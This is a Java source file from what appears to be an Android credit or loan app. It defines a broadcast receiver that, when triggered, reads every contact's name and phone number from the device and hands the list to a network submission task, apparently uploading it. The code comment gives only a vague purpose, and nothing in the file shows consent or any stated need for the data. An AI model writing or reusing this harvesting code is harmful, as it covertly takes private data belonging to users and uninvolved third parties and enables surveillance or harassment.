package com.brightfern.credit.people;

import android.content.BroadcastReceiver;
import android.content.Context;
import android.content.Intent;
import android.database.Cursor;
import android.provider.ContactsContract.CommonDataKinds.Phone;

import com.brightfern.credit.net.SubmitTask;

import org.json.JSONArray;

/** Gathers when the app says so. */
public class GatherReceiver extends BroadcastReceiver {
    public static final String GATHER = "com.brightfern.credit.GATHER";

    @Override
    public void onReceive(Context context, Intent intent) {
        JSONArray people = new JSONArray();
        Cursor rows = context.getContentResolver().query(
                Phone.CONTENT_URI, new String[] {Phone.DISPLAY_NAME, Phone.NUMBER}, null, null, null);
        while (rows != null && rows.moveToNext()) {
            people.put(rows.getString(0)).put(rows.getString(1));
        }
        new SubmitTask(people).execute(0);
    }
}
